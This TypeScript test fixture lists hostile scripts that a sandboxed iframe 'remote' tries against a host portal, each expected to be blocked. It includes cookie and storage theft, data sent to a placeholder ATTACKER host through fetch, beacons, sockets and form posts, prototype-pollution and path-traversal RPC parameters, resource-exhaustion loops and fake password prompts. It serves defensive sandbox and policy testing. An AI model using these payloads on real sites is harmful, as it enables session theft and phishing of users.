import { takingThePort } from './framed-remotes.ts';

interface Attempt {
  name: string;
  /** Runs in the frame; `ATTACKER` is the address of the attacker's server. */
  script: string;
  /** The script's finding; absent: nothing. */
  outcome?: string | RegExp;
  /** The directive of the policy that stops it. */
  violated?: string;
}

const addLink = (rel: string, more = '') =>
  `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', href: 'ATTACKER/${rel}' ${more} }));`;
const refusedAccess = 'SecurityError';
const flood = 'for (let count = 0; count < 500; count++)';

/** Attempts of a hostile remote in its frame. All come to nothing, and the frame stays open. */
export const attempts: Attempt[] = [
  // Things that belong to the portal.
  { name: 'session-cookie', script: 'return document.cookie;', outcome: refusedAccess },
  { name: 'local-storage', script: 'return localStorage.length;', outcome: refusedAccess },
  { name: 'session-storage', script: 'return sessionStorage.length;', outcome: refusedAccess },
  { name: 'database', script: 'return indexedDB.open("portal");', outcome: refusedAccess },
  { name: 'parent-document', script: 'return parent.document.title;', outcome: refusedAccess },
  { name: 'form-fields', script: 'return top.document.forms[0].elements[0].value;', outcome: refusedAccess },
  {
    name: 'document-domain',
    script: 'document.domain = location.hostname; return parent.document.title;',
    outcome: refusedAccess,
  },
  { name: 'top-location', script: 'top.location = "ATTACKER/top";', outcome: refusedAccess },
  { name: 'parent-location', script: 'parent.location.href = "ATTACKER/parent";', outcome: refusedAccess },
  {
    name: 'service-worker',
    script: 'return (await navigator.serviceWorker.register("/sw.js")).scope;',
    outcome: /Error$/,
  },
  // Windows, and what a browser does for pages that people trust.
  { name: 'popup', script: 'return window.open("ATTACKER/popup");', outcome: 'null' },
  { name: 'dialog', script: 'alert("Your password?"); return confirm("Sure?");', outcome: 'false' },
  {
    name: 'fullscreen',
    script: 'return document.documentElement.requestFullscreen();',
    outcome: 'TypeError',
  },
  {
    name: 'keyboard-lock',
    script: 'return navigator.keyboard?.lock() ?? "NotFound";',
    outcome: /Error$|NotFound/,
  },
  {
    name: 'clipboard',
    script: 'return navigator.clipboard?.readText() ?? "NotFound";',
    outcome: /Error$|NotFound/,
  },
  // Data out.
  { name: 'picture', script: 'new Image().src = "ATTACKER/picture";', violated: 'img-src' },
  { name: 'fetch', script: 'await fetch("ATTACKER/fetch");', outcome: 'TypeError', violated: 'connect-src' },
  { name: 'own-portal', script: 'await fetch("/api/user");', outcome: 'TypeError', violated: 'connect-src' },
  { name: 'beacon', script: 'navigator.sendBeacon("ATTACKER/beacon", "x");', violated: 'connect-src' },
  {
    name: 'web-socket',
    script: 'new WebSocket("ATTACKER/socket".replace("http", "ws"));',
    violated: 'connect-src',
  },
  { name: 'event-source', script: 'new EventSource("ATTACKER/events");', violated: 'connect-src' },
  {
    name: 'style-address',
    script: 'document.body.style.backgroundImage = "url(ATTACKER/style)";',
    violated: 'img-src',
  },
  {
    name: 'font',
    script: 'await new FontFace("leaf", "url(ATTACKER/font)").load();',
    outcome: /Error$/,
    violated: 'font-src',
  },
  { name: 'style-sheet', script: addLink('stylesheet'), violated: 'style-src-elem' },
  {
    name: 'prefetch',
    script:
      addLink('prefetch') +
      addLink('preload', ", as: 'image'") +
      addLink('modulepreload') +
      addLink('preconnect') +
      addLink('dns-prefetch'),
  },
  { name: 'manifest', script: addLink('manifest') + addLink('icon') },
  {
    name: 'ping',
    script:
      'const a = Object.assign(document.createElement("a"), { href: "#x", ping: "ATTACKER/ping" }); document.body.append(a); a.click();',
    violated: 'connect-src',
  },
  {
    name: 'download',
    script:
      'const a = Object.assign(document.createElement("a"), { href: "data:text/plain,x", download: "x.txt" }); document.body.append(a); a.click();',
  },
  {
    name: 'video',
    script:
      'document.body.append(Object.assign(document.createElement("video"), { src: "ATTACKER/video", autoplay: true }));',
    violated: 'media-src',
  },
  {
    name: 'web-rtc',
    script:
      'const link = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] }); link.createDataChannel("x"); await link.setLocalDescription(await link.createOffer());',
    outcome: 'ReferenceError',
  },
  {
    name: 'nested-frame',
    script:
      'document.body.append(Object.assign(document.createElement("iframe"), { src: "ATTACKER/nested" }));',
    violated: 'frame-src',
  },
  {
    name: 'nested-realm',
    script:
      'const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.RTCPeerConnection;',
    outcome: refusedAccess,
  },
  { name: 'nested-text', script: 'document.createElement("iframe").srcdoc = "<p>";', outcome: 'TypeError' },
  {
    name: 'foreign-script',
    script:
      'document.body.append(Object.assign(document.createElement("script"), { src: "ATTACKER/script" }));',
    violated: 'script-src-elem',
  },
  {
    name: 'foreign-module',
    script: 'await import("ATTACKER/module");',
    outcome: 'TypeError',
    violated: 'script-src-elem',
  },
  {
    name: 'worker',
    script: 'new Worker(URL.createObjectURL(new Blob(["fetch(\'ATTACKER/worker\')"])));',
    violated: 'worker-src',
  },
  { name: 'evaluation', script: 'return eval("1 + 1");', outcome: 'EvalError' },
  // Acts that only visitors decide on.
  {
    name: 'navigation',
    script: `${takingThePort} send({ type: 'navigate', to: '/settings', replace: false });`,
  },
  {
    name: 'foreign-navigation',
    script: `${takingThePort} send({ type: 'navigate', to: '//127.0.0.1/x', replace: false });`,
  },
  {
    name: 'foreign-link',
    script: `${takingThePort} send({ type: 'open', address: 'https://walks.example/?x' });`,
  },
  // Calls.
  {
    name: 'forged-params',
    script: `${takingThePort} send({ type: 'call', id: 1, name: 'plants.read', params: JSON.parse('{"__proto__":"1","id":"../user"}') });`,
  },
];

/** Hostile remotes that break a rule of their frame, so that the shell takes it away. */
export const offenders: Pick<Attempt, 'name' | 'script'>[] = [
  {
    name: 'form-action',
    script:
      'const form = Object.assign(document.createElement("form"), { action: "ATTACKER/form", method: "post" }); document.body.append(form); form.submit();',
  },
  {
    name: 'undeclared-call',
    script: `${takingThePort} send({ type: 'call', id: 1, name: 'users.current' });`,
  },
  {
    name: 'forged-name',
    script: `${takingThePort} send({ type: 'call', id: 1, name: '__proto__' });`,
  },
  {
    name: 'forged-path',
    script: `${takingThePort} send({ type: 'call', id: 1, name: 'plants.read', params: { id: '..' } });`,
  },
  {
    name: 'call-flood',
    script: `${takingThePort} ${flood.replace('500', '25')} send({ type: 'call', id: count, name: 'plants.read', params: { id: 1 } });`,
  },
  { name: 'message-flood', script: `${takingThePort} ${flood} send({ type: 'pong' });` },
  {
    name: 'huge-message',
    script: `${takingThePort} send({ type: 'title', title: 'x'.repeat(70_000) });`,
  },
  {
    name: 'unknown-message',
    script: `${takingThePort} send({ type: 'session', session: { id: 1 } });`,
  },
  {
    name: 'second-greeting',
    script: 'parent.postMessage({ type: "ready", protocol: 1, nonce: location.hash.slice(1) }, "*");',
  },
  {
    name: 'replayed-port',
    script: `${takingThePort} parent.postMessage({ type: 'ready', protocol: 1, nonce: location.hash.slice(1) }, '*', [port]);`,
  },
  { name: 'foreign-document', script: 'location.href = "ATTACKER/document?secret";' },
  {
    name: 'refreshed-document',
    script:
      'document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=ATTACKER/refresh" }));',
  },
  { name: 'other-frame', script: 'location.href = "/frames/picture/v1";' },
];

/** Remotes with a test of their own. */
export const others = {
  'endless-loop': 'setTimeout(() => { for (;;); }, 300);',
  'memory-hog':
    'const lists = []; window.lists = lists; setInterval(() => { for (let count = 0; count < 1000; count++) lists.push(new Array(1000).fill(Math.random())); });',
  'focus-thief':
    'setInterval(() => { window.focus(); field.focus(); }, 30); const field = document.createElement("input"); document.body.append(field); window.field = field;',
  overlay: `${takingThePort} setInterval(() => send({ type: 'size', height: 1e9 }), 100); document.body.style = 'position: fixed; inset: -9999px; z-index: 2147483647';`,
  imitation: `${takingThePort} send({ type: 'toast', title: 'Plant Portal', description: 'Your session ends. Enter your password.' });`,
  harmless: 'return "ready";',
};
